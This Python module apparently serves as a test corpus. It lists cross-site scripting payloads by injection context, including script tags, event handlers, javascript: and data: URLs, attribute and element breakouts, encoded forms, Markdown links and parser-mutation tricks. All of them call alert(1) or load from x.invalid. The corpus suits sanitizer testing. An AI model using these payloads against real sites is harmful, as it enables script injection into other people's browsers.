"""Texts that would run a script where a page took them for markup, for an address, or for its own script.

Each calls `alert`, or would have the browser ask for something that the policy of a page forbids.
"""

from itertools import product

_BARE = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.invalid></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert`1`</script>", "<script\n>alert(1)</script\n>", "<script type=module>alert(1)</script>", "<script src=data:,alert(1)></script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<math><mtext><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>", "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<base href=//x.invalid/>", "<link rel=stylesheet href=//x.invalid/x.css>", "<style>@import '//x.invalid/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1) type=submit>", "<template><script>alert(1)</script></template>",
    "<math href=javascript:alert(1)>x</math>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />", "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<img src=//x.invalid/pixel.png>", "<video><source onerror=alert(1)>",
)  # fmt: skip
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "x tabindex=1",
    "iframe",
    "marquee",
    "audio src=x",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onpointerenter",
    "onanimationstart",
    "ontransitionend",
)
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "javascript:/*--></title></style></script>*/alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "view-source:javascript:alert(1)", "//x.invalid", "blob:null/x",
    "javascript://%0aalert(1)", "jav&Tab;ascript:alert(1)", "javascript:alert(1)//https://example.com", "data:image/svg+xml,<svg onload=alert(1)>", "feed:javascript:alert(1)",
)  # fmt: skip
_WAYS_OUT = (
    '">',
    "'>",
    "`>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</noscript>",
    "</template>",
    "</select>",
    "</option></select>",
)
_INSIDE = (
    '" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='", '" onpointerenter=alert(1) style="position:fixed;inset:0', "x onerror=alert(1)",
    "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "</script><script>alert(1)//", "${alert(1)}", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}", "{{ 7|add:7 }}", "#{alert(1)}", "<%= alert(1) %>", "@@", '@@"><img src=x onerror=alert(1)>', "__proto__", "constructor", "\u2028alert(1)",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}', "javascript:alert(1)#<img src=x onerror=alert(1)>",
)  # fmt: skip
_CODED = (
    "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\u200bscript>alert(1)</script>", "\u202e<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=\\u0061lert(1)>", "<a href='&#x6A;avascript:alert(1)'>x</a>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](java&#10;script:alert(1))", '![x](x"onerror="alert(1))', "[x](<javascript:alert(1)>)", "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]", "![x](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "```<img src=x onerror=alert(1)>\nx\n```",
    "[<img src=x onerror=alert(1)>](https://x.invalid)", "`<img src=x onerror=alert(1)>`", "|<script>alert(1)</script>|\n|---|", '[x](https://x.invalid "onfocus=alert(1) autofocus")',
)  # fmt: skip
_CHANGED_BY_READING = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--<img src='--><img src=x onerror=alert(1)//'>", "<p/<img src=x onerror=alert(1)>", "<<img src=x onerror=alert(1)>>",
    "<a title='<img src=x onerror=alert(1)>'>x</a>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<table><td><svg><desc><img src=x onerror=alert(1)>",
)  # fmt: skip

SCRIPTS: tuple[str, ...] = (
    *_BARE,
    *(f"<{tag} {handler}=alert(1)>" for tag, handler in product(_TAGS, _HANDLERS)),
    *_ADDRESSES,
    *(f"{out}<img src=x onerror=alert(1)>" for out in _WAYS_OUT),
    *_INSIDE,
    *_CODED,
    *_MARKDOWN,
    *_CHANGED_BY_READING,
)
